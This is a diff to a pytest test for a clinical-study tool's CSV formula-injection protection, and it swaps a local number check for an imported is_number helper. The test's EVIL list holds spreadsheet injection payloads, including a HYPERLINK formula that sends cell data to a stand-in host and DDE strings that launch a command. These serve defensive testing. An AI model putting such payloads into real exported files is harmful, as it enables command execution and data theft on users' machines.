@@ -10,7 +10,7 @@ import pytest
 import yaml
 
 from dlr.cli import main
-from dlr.core.csvsafe import neutral, neutral_frame, read_back, restored
+from dlr.core.csvsafe import is_number, neutral, neutral_frame, read_back, restored
 from real_clinical_study import write_study
 
 EVIL = ['=HYPERLINK("x.example?"&A1,"click")', "+cmd|' -c calc'!A0", "@SUM(1+1)", "-2+3+cmd|' -C calc'!A0"]
@@ -59,7 +59,7 @@ def test_a_run_with_formula_ids_writes_no_formula_and_reads_its_files_back(tmp_p
     assert len(written) > 10
     for path in written:
         for cell in _cells(path):
-            assert not cell or cell[0] not in "=+@\t\r" and not (cell[0] == "-" and not _number(cell)), (path, cell)
+            assert not cell or cell[0] not in "=+@\t\r" and not (cell[0] == "-" and not is_number(cell)), (path, cell)
     predictions = pd.read_csv(run / "predictions.csv", dtype=str)
     assert {neutral(e) for e in EVIL} <= set(predictions["patient_id"])
     # read back as written: the split is reused, the analysis sees the study's ids
@@ -71,11 +71,3 @@ def test_a_run_with_formula_ids_writes_no_formula_and_reads_its_files_back(tmp_p
     package = tmp_path / "package.zip"
     assert main(["package", str(run), "--out", str(package)]) == 0, capsys.readouterr().err[-3000:]
     assert main(["verify", str(package)]) == 0, capsys.readouterr().err[-3000:]
-
-
-def _number(text: str) -> bool:
-    try:
-        float(text)
-    except ValueError:
-        return False
-    return True
